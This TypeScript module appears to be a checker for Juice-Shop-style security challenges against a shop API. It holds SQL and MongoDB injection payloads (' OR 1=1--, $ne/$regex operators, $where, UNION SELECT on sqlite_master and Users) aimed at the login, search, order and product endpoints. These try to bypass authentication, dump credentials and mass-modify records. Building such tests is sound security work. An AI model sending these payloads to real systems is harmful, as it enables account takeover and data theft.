import { guestForm, itemForm, line } from '../../deployment/deployment.ts';
import { asked } from './search-requests.ts';
import {
  any,
  changes,
  itemNow,
  letIn,
  saying,
  succeeded,
  type Challenge,
  type Shop,
  type Try,
} from './challenge.ts';

/** What breaks out of a query where words are pasted into one, in SQL and in MongoDB. */
const escapes = (email: string) => [
  { email: `${email}'--`, password: 'x' },
  { email: `' OR 1=1--`, password: 'x' },
  { email, password: `' OR '1'='1` },
  { email, password: `' || '1'=='1` },
  { email: { $eq: email }, password: { $ne: null } },
  { email, password: { $ne: null } },
  { email: { $gt: '' }, password: { $gt: '' } },
  { email: { $regex: '^' }, password: { $regex: '^' } },
  { email: [email], password: [''] },
  { 'email[$ne]': 'x', 'password[$ne]': 'x' },
  { $where: 'true', email, password: 'x' },
];
const logIn = (body: unknown): Try => ['post', '/api/users/login', { body }];
const breakIn = (shop: Shop, email: string) => any(shop, escapes(email).map(logIn), letIn);

const unions = [
  `')) UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master--`,
  `' UNION SELECT id,email,password FROM Users--`,
  `'; return db.getCollectionNames(); var x='`,
  '.*',
  '$where',
];
/** Words that are to be taken for commands. */
export const injection: readonly Challenge[] = [
  {
    name: 'Login Admin',
    tried: 'sign in as the admin with operators, quotes and comments instead of a password',
    sign: 'a token',
    solved: (shop) => breakIn(shop, shop.admin.email),
  },
  {
    name: 'Login Jim',
    tried: 'the same with a member whose e-mail is known',
    sign: 'a token',
    solved: (shop) => breakIn(shop, shop.member.email),
  },
  {
    name: 'Login Bender',
    tried: 'the same with a chef, in capitals and with spaces around',
    sign: 'a token',
    solved: (shop) => breakIn(shop, ` ${shop.chef.email.toUpperCase()} `),
  },
  {
    name: 'Ephemeral Accountant',
    tried: 'sign in as someone who was never registered, made up on the way',
    sign: 'a token',
    solved: (shop) => {
      const email = 'accountant@example.com';
      const made = { _id: 'f'.repeat(24), email, isAdmin: true, passwordHash: '', tokenVersion: 0 };
      const union = `' UNION SELECT * FROM (SELECT 15 AS id, '${email}' AS email)--`;
      return any(
        shop,
        [...escapes(email), { ...made, password: '' }, { email: union, password: 'x' }].map(logIn),
        letIn,
      );
    },
  },
  {
    name: 'Database Schema',
    tried: 'ask every search and filter for what the database is made of',
    sign: 'a name that only the database knows',
    solved: (shop) =>
      any(shop, asked(shop, unions), saying(/passwordHash|tokenVersion|stockMoves|ratingSum|sqlite/)),
  },
  {
    name: 'User Credentials',
    tried: 'ask every search and filter for accounts',
    sign: 'a hash, or a member’s e-mail',
    solved: (shop) =>
      any(
        shop,
        asked(shop, unions),
        (reply) => saying(/\$2[aby]\$/)(reply) || saying(shop.member.email)(reply),
      ),
  },
  {
    name: 'Christmas Special',
    tried: 'order a draft and a deleted item',
    sign: 'an order',
    solved: async (shop) => {
      const { market, chef, member } = shop;
      const draft = (await market.call('post', '/api/products', { token: chef.token })).body as {
        _id: string;
      };
      const gone = await market.item(chef);
      await market.call('delete', `/api/products/${gone._id}`, { token: chef.token });
      const lines = [draft, gone].map((item) => [line(item)]);
      const tries = lines.flatMap((orderItems): Try[] => [
        ['post', '/api/orders/guest', { body: guestForm(orderItems) }],
        [
          'post',
          '/api/orders',
          { body: { orderItems, deleted: false, published: true }, token: member.token },
        ],
      ]);
      return any(shop, tries, succeeded);
    },
  },
  {
    name: 'NoSQL Exfiltration',
    tried: 'read every order with a condition that is always true instead of a number',
    sign: 'an order',
    solved: (shop) => {
      const conditions = [`' || true || '`, '{"$ne":null}', '[$ne]', '*', '.*', `${shop.order._id}' || '1`];
      const paths = conditions.flatMap((words) => {
        const id = encodeURIComponent(words);
        return [`/api/orders/guest/${id}`, `/api/orders/${id}`, `/api/orders/${id}/${shop.thief._id}`];
      });
      const tries = paths.map((path): Try => ['get', path, { token: shop.thief.token }]);
      return any(shop, tries, saying('"orderItems"'));
    },
  },
  {
    name: 'NoSQL Manipulation',
    tried: 'change many items or reviews at once with a condition for an id',
    sign: 'an item that changed',
    solved: (shop) => {
      const id = { $ne: -1 };
      const everything = encodeURIComponent(JSON.stringify(id));
      const body = {
        id,
        _id: id,
        rating: 1,
        comment: 'the same for all',
        ...itemForm({ name: 'Taken over' }),
      };
      const { token } = shop.thief;
      const tries: Try[] = [
        ['post', `/api/products/${everything}/reviews`, { body, token }],
        ['patch', '/api/products/reviews', { body, token }],
        ['put', `/api/products/${everything}`, { body, token }],
        ['put', `/api/products/${everything}`, { body, token: shop.otherChef.token }],
        ['put', `/api/products/${everything}/0`, { body, token: shop.otherChef.token }],
        ['delete', `/api/products/${everything}`, { token: shop.otherChef.token }],
      ];
      return changes(shop, tries, async ({ market, ...rest }) => [
        await itemNow({ market, ...rest }),
        await market.collection('reviews').countDocuments(),
        await market.collection('products').countDocuments({ name: { $ne: 'Taken over' } }),
      ]);
    },
  },
];
